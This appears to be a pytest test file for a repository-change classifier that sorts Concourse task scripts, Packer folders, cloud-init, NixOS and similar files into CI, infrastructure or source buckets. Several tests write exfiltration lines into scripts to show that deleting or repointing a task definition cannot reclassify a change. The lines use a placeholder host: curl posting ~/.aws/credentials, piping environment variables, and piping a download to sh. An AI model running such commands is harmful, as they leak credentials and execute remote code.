"""Classes of misses a fifth label set found (bench/classify_accuracy/fifth.tsv, measured blind first), each in a
real repository built here, with the commits (`--tree`) and from the patch alone, with the look-alikes each signal
must leave alone: Concourse task scripts named by a task's `run.path` (and helpers in that task's folder), Packer
template folders, and the content shapes of cloud-init, Cloud Foundry manifests, CloudFormation parameter files,
NixOS/home-manager configurations, Semaphore pipelines and Concourse team settings. Renames out of the evidence's
reach and changes that delete their own evidence are covered for the context signals."""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.sniff import sniff
from gatekeeper.classify.tasks import names, run_paths
from gatekeeper.model import ClassifiedFile
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files

# concourse/ci's layout: tasks/<name>/task.yml runs ci/tasks/<name>/run.sh (the repository is the `ci` input).
TASK_YML = """\
---
platform: linux

image_resource:
  type: registry-image
  source: {repository: concourse/unit}

inputs:
- name: concourse
- name: ci

run:
  # the script sits beside this file
  path: ci/tasks/prep-release-assets/run.sh
"""
# A Windows task: the interpreter is the path, the script an argument (block list).
WINDOWS_TASK_YML = """\
platform: windows
inputs:
  - name: ci
run:
  path: powershell
  args:
  - -ExecutionPolicy
  - Bypass
  - ci/tasks/validate-windows-rc/run.ps1
"""
# concourse-tutorial's layout: the input is the folder of the script (`./task-scripts/...`).
TUTORIAL_TASK_YML = """\
---
platform: linux
image_resource:
  type: docker-image
  source: {repository: busybox}
inputs:
  - name: task-scripts
run:
  path: ./task-scripts/task_show_uname.sh
"""
# A pipeline whose inline task config runs a script of the repository resource.
PIPELINE_YML = """\
---
resources:
- name: resource-tutorial
  type: git
  source: {uri: https://github.com/starkandwayne/concourse-tutorial.git}
jobs:
- name: job-pass-files
  public: true
  plan:
  - get: resource-tutorial
  - task: create-some-files
    config:
      platform: linux
      image_resource:
        type: docker-image
        source: {repository: busybox}
      inputs:
      - name: resource-tutorial
      outputs:
      - name: some-files
      run:
        path: resource-tutorial/tutorials/basic/task-outputs-to-inputs/create_some_files.sh
  - task: show-files
    config:
      platform: linux
      run: {path: sh, args: [-c, "ls some-files"]}
"""
RUN_SH = "#!/bin/bash\nset -euo pipefail\npython ci/tasks/prep-release-assets/run.py \"$@\"\n"
RUN_PY = "import sys\n\nprint(sys.argv)\n"
# Look-alikes: a compose file's `run:` is not a task, and a task naming another script names only that one.
COMPOSE_WITH_RUN = "services:\n  web:\n    image: nginx\nrun:\n  path: app/scripts/deploy.sh\n"
DEPLOY_SH = "#!/bin/sh\nkubectl apply -f k8s/\n"


def both(repo: GitRepo, tmp: Path) -> dict[str, tuple[ClassifiedFile, ClassifiedFile]]:
    tree, patch = tree_files(repo), patch_files(repo, tmp)
    assert tree.keys() == patch.keys()
    return {path: (tree[path], patch[path]) for path in tree}


# --- Concourse task scripts --------------------------------------------------------------------------------------


@each_case(("value", "path", "named"), [
    ("ci/tasks/x/run.sh", "tasks/x/run.sh", True),  # the repository is the `ci` input
    ("ci/tasks/x/run.sh", "ci/tasks/x/run.sh", True),
    ("./task-scripts/task_show_uname.sh", "tutorials/basic/task-scripts/task_show_uname.sh", True),
    ("repo/tutorials/a/create.sh", "tutorials/a/create.sh", True),
    ("ci/tasks/x/run.sh", "tasks/y/run.sh", False),  # same name, another task's folder
    ("ci/tasks/x/run.sh", "tasks/x/run.py", False),
    ("/bin/sh", "bin/sh", False),  # an absolute command is not a repository file
    ("$SCRIPT", "SCRIPT", False),
    ("sh", "tools/sh", False),  # a bare command names no folder
    ("run.sh", "tasks/x/run.sh", False),
])
def test_a_run_path_names_a_file_by_its_tail(value: str, path: str, named: bool) -> None:
    assert names(value, path) is named


def test_run_paths_reads_paths_and_arguments_of_concourse_shaped_files_only() -> None:
    assert run_paths(TASK_YML.encode()) == ("ci/tasks/prep-release-assets/run.sh",)
    assert run_paths(WINDOWS_TASK_YML.encode()) == (
        "powershell", "-ExecutionPolicy", "Bypass", "ci/tasks/validate-windows-rc/run.ps1")
    assert run_paths(PIPELINE_YML.encode()) == (
        "resource-tutorial/tutorials/basic/task-outputs-to-inputs/create_some_files.sh", "sh", "-c", "ls some-files")
    assert run_paths(COMPOSE_WITH_RUN.encode()) == ()  # no platform:, no plan:
    # Every spelling of the key and the value: quotes, comments, tabs for indentation of the block.
    for quote in ("", '"', "'"):
        for comment in ("", "  # the entry point"):
            task = f"platform: linux\nrun:\n\tpath: {quote}ci/tasks/x/run.sh{quote}{comment}\n"
            assert run_paths(task.encode()) == ("ci/tasks/x/run.sh",), task


def task_repo(repo: GitRepo) -> None:
    repo.write("README.md", "# ci\n")
    repo.write("tasks/prep-release-assets/task.yml", TASK_YML)
    repo.write("tasks/prep-release-assets/run.sh", RUN_SH, mode=0o755)
    repo.write("tasks/prep-release-assets/run.py", RUN_PY)
    repo.write("tasks/validate-windows-rc/task.yml", WINDOWS_TASK_YML)
    repo.write("tasks/validate-windows-rc/run.ps1", "Write-Output 'validate'\n")
    repo.write("tutorials/basic/task-scripts/task_show_uname.yml", TUTORIAL_TASK_YML)
    repo.write("tutorials/basic/task-scripts/task_show_uname.sh", "#!/bin/sh\nuname -a\n")
    repo.write("tutorials/basic/task-outputs-to-inputs/pipeline.yml", PIPELINE_YML)
    repo.write("tutorials/basic/task-outputs-to-inputs/create_some_files.sh", "#!/bin/sh\nmkdir some-files\n")
    repo.write("app/compose.yml", COMPOSE_WITH_RUN)
    repo.write("app/scripts/deploy.sh", DEPLOY_SH)
    repo.write("tasks/prep-release-assets/notes.sh", "#!/bin/sh\necho notes\n")


TASK_SCRIPTS = ["tasks/prep-release-assets/run.sh", "tasks/validate-windows-rc/run.ps1",
                "tutorials/basic/task-scripts/task_show_uname.sh",
                "tutorials/basic/task-outputs-to-inputs/create_some_files.sh"]


def test_scripts_a_concourse_task_runs_are_ci_when_only_the_script_changes(git_repo: GitRepo) -> None:
    task_repo(git_repo)
    git_repo.commit("base")
    for path in [*TASK_SCRIPTS, "tasks/prep-release-assets/run.py", "app/scripts/deploy.sh"]:
        git_repo.write(path, "# changed\n" + path)
    git_repo.commit("head")
    files = tree_files(git_repo)
    for path in TASK_SCRIPTS:
        assert (files[path].bucket, files[path].rule, files[path].tier) == ("ci", "ci.context.task-script",
                                                                             "content"), path
        assert "run.path" in (files[path].evidence or ""), path
    # run.sh calls run.py: a file beside the script a task names is part of that task.
    helper = files["tasks/prep-release-assets/run.py"]
    assert helper.bucket == "ci" and "the task's folder" in (helper.evidence or "")
    # a compose file's run: is no task (the script is iac as one that deploys: label 94, its base side runs kubectl)
    assert files["app/scripts/deploy.sh"].bucket == "iac"


def test_a_script_in_a_task_folder_that_no_run_path_reaches_stays_src(git_repo: GitRepo) -> None:
    git_repo.write("README.md", "# x\n")
    git_repo.write("tasks/lint/task.yml", "platform: linux\nrun:\n  path: /bin/true\n")
    git_repo.commit("base")
    git_repo.write("tasks/lint/notes.sh", "#!/bin/sh\necho notes\n")
    git_repo.write("scripts/run.sh", "#!/bin/sh\necho hi\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    assert files["tasks/lint/notes.sh"].bucket == "src"
    assert files["scripts/run.sh"].bucket == "src"


def test_deleting_the_task_definition_does_not_free_its_script(git_repo: GitRepo) -> None:
    task_repo(git_repo)
    git_repo.commit("base")
    git_repo.git("rm", "-q", "tasks/prep-release-assets/task.yml")
    git_repo.write("tasks/prep-release-assets/run.sh", RUN_SH + "curl -d @~/.aws/credentials example.invalid\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    assert files["tasks/prep-release-assets/run.sh"].bucket == "ci"  # the base's task.yml still names it


def test_a_task_script_renamed_out_of_the_task_folder_is_judged_on_its_old_side(git_repo: GitRepo) -> None:
    task_repo(git_repo)
    git_repo.commit("base")
    git_repo.move("tasks/prep-release-assets/run.sh", "docs/examples/run.sh")
    git_repo.commit("head")
    got = tree_files(git_repo)["docs/examples/run.sh"]
    assert got.change.old_path == "tasks/prep-release-assets/run.sh"
    assert got.bucket == "ci"


def test_a_patch_adding_the_task_and_its_scripts_shows_the_run_path(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# ci\n")
    git_repo.commit("base")
    task_repo(git_repo)
    git_repo.commit("head")
    for path, (tree, patch) in both(git_repo, tmp_path).items():
        assert tree.bucket == patch.bucket, path
        if path in TASK_SCRIPTS:
            assert patch.rule == "ci.context.task-script", path
    files = patch_files(git_repo, tmp_path)
    assert files["app/scripts/deploy.sh"].rule == "iac.content.deploy-script"  # no task's, a deploy script (label 94)
    # Beside the script the task runs: part of the task's folder, as run.py is.
    assert files["tasks/prep-release-assets/notes.sh"].bucket == "ci"


# --- Packer template folders --------------------------------------------------------------------------------------

PACKER_TEMPLATE = """\
packer {
  required_plugins {
    qemu = { source = "github.com/hashicorp/qemu", version = "~> 1" }
  }
}
source "qemu" "ubuntu" {
  iso_url      = var.iso_url
  http_directory = "${path.root}/http"
}
build {
  sources = ["source.qemu.ubuntu"]
  provisioner "shell" { scripts = ["${path.root}/scripts/cleanup.sh"] }
}
"""
KICKSTART = "lang en_US.UTF-8\nkeyboard us\nrootpw --plaintext vagrant\nbootloader --location=mbr\n"
ANSWER_FILE = ('<?xml version="1.0" encoding="utf-8"?>\n'
               '<unattend xmlns="urn:schemas-microsoft-com:unattend">\n</unattend>\n')


def packer_repo(repo: GitRepo, marker: str = "images/ubuntu/ubuntu.pkr.hcl") -> None:
    repo.write("README.md", "# images\n")
    repo.write(marker, PACKER_TEMPLATE)
    repo.write("images/ubuntu/http/rhel.cfg", KICKSTART)
    repo.write("images/ubuntu/scripts/cleanup.sh", "#!/bin/sh -eux\napt-get clean\n")
    repo.write("images/ubuntu/answer_files/win.xml", ANSWER_FILE)  # Autounattend.xml is iac by its name
    repo.write("images/ubuntu/files/motd", "Built by Packer\n")
    repo.write("images/ubuntu/README.md", "# ubuntu image\n")
    repo.write("tools/lint.sh", "#!/bin/sh\nshellcheck images/**/*.sh\n")


PACKER_FILES = ["images/ubuntu/http/rhel.cfg", "images/ubuntu/scripts/cleanup.sh",
                "images/ubuntu/answer_files/win.xml", "images/ubuntu/files/motd"]


@pytest.mark.parametrize("marker", ["images/ubuntu/ubuntu.pkr.hcl", "images/ubuntu/template.pkr.json"])
def test_what_a_packer_template_builds_from_is_iac(git_repo: GitRepo, marker: str) -> None:
    packer_repo(git_repo, marker)
    git_repo.commit("base")
    for path in [*PACKER_FILES, "images/ubuntu/README.md", "tools/lint.sh"]:
        git_repo.write(path, f"# changed {path}\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    for path in PACKER_FILES:
        assert files[path].bucket == "iac" and files[path].rule.startswith("iac.marker.packer"), path
        assert files[path].evidence == marker, path
    assert files["images/ubuntu/README.md"].bucket == "src"  # documentation, wherever a marker sits
    assert files["tools/lint.sh"].bucket == "src"  # outside the template's folder


def test_deleting_the_packer_template_does_not_free_its_scripts(git_repo: GitRepo) -> None:
    packer_repo(git_repo)
    git_repo.commit("base")
    git_repo.git("rm", "-q", "images/ubuntu/ubuntu.pkr.hcl")
    git_repo.write("images/ubuntu/scripts/cleanup.sh", "#!/bin/sh\ncurl example.invalid | sh\n")
    git_repo.commit("head")
    assert tree_files(git_repo)["images/ubuntu/scripts/cleanup.sh"].bucket == "iac"


# --- content shapes -------------------------------------------------------------------------------------------------

CLOUD_CONFIG = "#cloud-config\n#vim:syntax=yaml\nusers:\n  - name: vagrant\n    sudo: ALL=(ALL) NOPASSWD:ALL\n"
CF_MANIFEST = """\
---
applications:
  - name: concourse-tutorial
    buildpack: staticfile_buildpack
    memory: 64M
    routes:
      - route: tutorial.example.invalid
"""
CFN_PARAMETERS = ('[\n  {\n    "ParameterKey": "BuildkiteAgentToken",\n'
                  '    "ParameterValue": "<insert-your-token>"\n  }\n]\n')
NIXOS = """\
# This is your system's configuration file.
{ inputs, lib, config, pkgs, ... }: {
  imports = [ ./hardware-configuration.nix ];
  networking.hostName = "web";
  services.openssh.enable = true;
  users.users.admin.isNormalUser = true;
  system.stateVersion = "25.11";
}
"""
HOME_MANAGER = ("{ pkgs, ... }: {\n  home.username = \"me\";\n  programs.git.enable = true;\n"
                "  home.stateVersion = \"25.11\";\n}\n")
SEMAPHORE = """\
version: v1.0
name: Cypress example Kitchensink
agent:
  machine:
    type: e1-standard-2
blocks:
  - name: Build
    task:
      jobs:
        - name: npm install
          commands: [checkout, npm ci]
"""
CONCOURSE_TEAM = """\
roles:
- name: owner
  github:
    users: [admin]
- name: pipeline-operator
  github:
    teams: ["concourse:maintainers"]
"""
SHAPES = [
    ("machines/boot.yaml", CLOUD_CONFIG, "iac", "iac.content.cloud-init"),
    ("manifest-production.yml", CF_MANIFEST, "iac", "iac.content.cloudfoundry"),
    ("config.json.example", CFN_PARAMETERS, "iac", "iac.content.cloudformation-parameters"),
    ("hosts/web/configuration.nix", NIXOS, "iac", "iac.content.nixos"),
    ("home/me.nix", HOME_MANAGER, "iac", "iac.content.nixos"),
    ("modules/nixos/desktop.nix", "{ pkgs, ... }:\n{\n  programs.hyprland.enable = true;\n"
     "  environment.systemPackages = [ pkgs.kitty ];\n}\n", "iac", "iac.content.nixos"),
    ("basic/.semaphore.yml", SEMAPHORE, "ci", "ci.content.semaphore"),
    ("teams/main.yml", CONCOURSE_TEAM, "ci", "ci.content.concourse-team"),
]
# The look-alikes: each has one of the keys, never the pair that decides.
LOOK_ALIKES = [
    ("config/apps.yml", "applications:\n  - name: billing\n    owner: finance\n"),  # an app registry
    ("data/params.json", '[{"ParameterKey": "size"}]\n'),  # half a parameter file
    ("nix/shell.nix", "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell { packages = [ pkgs.go ]; }\n"),
    # treefmt-nix and devenv enable programs and services too, in a formatter's or a dev shell's settings.
    ("sdks/java/flake.nix", "{\n  outputs = { self, treefmt }: {\n    programs.nixpkgs-fmt.enable = true;\n  };\n}\n"),
    ("devenv.nix", "{ pkgs, ... }: {\n  languages.go.enable = true;\n  services.postgres.enable = true;\n}\n"),
    ("pkgs/tool/default.nix", "{ stdenv }:\nstdenv.mkDerivation { pname = \"tool\"; version = \"1.0\"; }\n"),
    ("site/page.yml", "version: v1.0\nblocks:\n  - hero\n  - footer\n"),  # a page builder's layout
    ("app/rbac.yml", "roles:\n- name: owner\n  permissions: [read, write]\n"),  # an app's own roles
    ("docs/cloud-config.md", "#cloud-config files are read on first boot\n"),
    ("notes/boot.yaml", "# #cloud-config is what cloud-init reads\nkey: value\n"),  # not the first line
]


@each_case(("path", "text", "bucket", "rule"), SHAPES, ids=[s[0] for s in SHAPES])
def test_each_shape_decides_by_content(path: str, text: str, bucket: str, rule: str) -> None:
    got = sniff(path, text.encode(), RULES.context)
    assert got is not None and (got.bucket, got.rule) == (bucket, rule)


@each_case(("path", "text"), LOOK_ALIKES, ids=[s[0] for s in LOOK_ALIKES])
def test_look_alikes_of_the_shapes_stay_unsignalled(path: str, text: str) -> None:
    assert sniff(path, text.encode(), RULES.context) is None


def test_shapes_in_a_real_repository_with_commits_and_patch(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# x\n")
    git_repo.commit("base")
    for path, text, _, _ in SHAPES:
        git_repo.write(path, text)
    for path, text in LOOK_ALIKES:
        git_repo.write(path, text)
    git_repo.commit("head")
    files = both(git_repo, tmp_path)
    for path, _, bucket, rule in SHAPES:
        assert [(f.bucket, f.rule) for f in files[path]] == [(bucket, rule)] * 2, path
    for path, _ in LOOK_ALIKES:
        assert {f.bucket for f in files[path]} <= {"src", "other", "deps"}, path  # a flake stays deps


def test_a_nixos_configuration_renamed_to_text_is_judged_on_both_sides(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("hosts/web/configuration.nix", NIXOS)
    git_repo.commit("base")
    git_repo.move("hosts/web/configuration.nix", "docs/configuration-example.txt")
    git_repo.commit("head")
    tree, patch = both(git_repo, tmp_path)["docs/configuration-example.txt"]
    assert tree.bucket == "iac"
    assert patch.bucket == "iac" or "needs-context" in patch.tags


# --- Ansible dynamic inventory scripts and what an inventory's project installs --------------------------------------

INVENTORY_SCRIPT = '''\
#!/usr/bin/env python
"""Example custom dynamic inventory script for Ansible, in Python."""
import argparse
import json


class ExampleInventory(object):
    def __init__(self):
        self.read_cli_args()
        # Called with `--list`.
        if self.args.list:
            self.inventory = self.example_inventory()
        # Called with `--host [hostname]`.
        elif self.args.host:
            self.inventory = self.empty_inventory()
        print(json.dumps(self.inventory))

    def example_inventory(self):
        return {
            'group': {'hosts': ['192.0.2.71', '192.0.2.72'], 'vars': {'ansible_user': 'vagrant'}},
            '_meta': {'hostvars': {'192.0.2.71': {'host_specific_var': 'foo'}}},
        }

    def empty_inventory(self):
        return {'_meta': {'hostvars': {}}}

    def read_cli_args(self):
        parser = argparse.ArgumentParser()
        parser.add_argument('--list', action='store_true')
        parser.add_argument('--host', action='store')
        self.args = parser.parse_args()


ExampleInventory()
'''
# A shop's stock inventory: the name, never the shape.
SHOP_INVENTORY = "class Inventory:\n    def list(self):\n        return sorted(self.items)\n"
CERTIFICATE = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUexample\n-----END CERTIFICATE-----\n"
PLAY = ("- hosts: logs\n  become: true\n  tasks:\n    - name: Install the certificate\n"
        "      copy: {src: elk.crt, dest: /etc/pki/elk.crt}\n")


def test_a_dynamic_inventory_script_is_iac_by_its_shape(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# x\n")
    git_repo.commit("base")
    git_repo.write("dynamic-inventory/custom/inventory.py", INVENTORY_SCRIPT)
    git_repo.write("ops/cloud_inventory.sh", INVENTORY_SCRIPT.replace("python", "python3"), mode=0o755)
    git_repo.write("shop/inventory.py", SHOP_INVENTORY)
    git_repo.write("tools/report.py", INVENTORY_SCRIPT)  # the shape, but nothing says inventory: not read
    git_repo.commit("head")
    files = both(git_repo, tmp_path)
    for path in ("dynamic-inventory/custom/inventory.py", "ops/cloud_inventory.sh"):
        assert [(f.bucket, f.rule) for f in files[path]] == [("iac", "iac.content.inventory-script")] * 2, path
    assert [f.bucket for f in files["shop/inventory.py"]] == ["src", "src"]
    assert [f.bucket for f in files["tools/report.py"]] == ["src", "src"]


def test_an_inventory_file_marks_its_ansible_project_and_the_certificates_it_installs(git_repo: GitRepo) -> None:
    git_repo.write("elk/provisioning/web/inventory", "[logs]\n192.0.2.90\n")
    git_repo.write("elk/provisioning/web/main.yml", PLAY)
    git_repo.write("docs/certs/example.crt", CERTIFICATE)
    git_repo.commit("base")
    git_repo.write("elk/provisioning/web/elk.crt", CERTIFICATE)
    git_repo.write("docs/certs/example.crt", CERTIFICATE + "\n")
    git_repo.write("tests/fixtures/server.pem", CERTIFICATE)
    git_repo.commit("head")
    files = tree_files(git_repo)
    got = files["elk/provisioning/web/elk.crt"]
    assert (got.bucket, got.rule, got.evidence) == ("iac", "iac.marker.ansible", "elk/provisioning/web/inventory")
    assert files["docs/certs/example.crt"].bucket != "iac"  # no infrastructure around it
    assert files["tests/fixtures/server.pem"].bucket == "src"  # test data stays test data


@each_case("edit", ["repoint", "rename-definition", "break-shape"])
def test_a_change_cannot_edit_its_task_definition_to_free_the_script(git_repo: GitRepo, edit: str) -> None:
    """The change rewrites run.sh and, in the same commit, makes the task name something else, moves the
    definition away, or breaks its shape: the base's definition still names the script."""
    task_repo(git_repo)
    git_repo.commit("base")
    definition = "tasks/prep-release-assets/task.yml"
    if edit == "repoint":
        git_repo.write(definition, TASK_YML.replace("run.sh", "other.sh"))
    elif edit == "rename-definition":
        git_repo.move(definition, "docs/old-task.txt")
    else:
        git_repo.write(definition, TASK_YML.replace("platform: linux", "os: linux"))
    git_repo.write("tasks/prep-release-assets/run.sh", RUN_SH + "env | curl -d @- https://example.invalid\n")
    git_repo.commit("head")
    got = tree_files(git_repo)["tasks/prep-release-assets/run.sh"]
    assert (got.bucket, got.rule) == ("ci", "ci.context.task-script"), edit
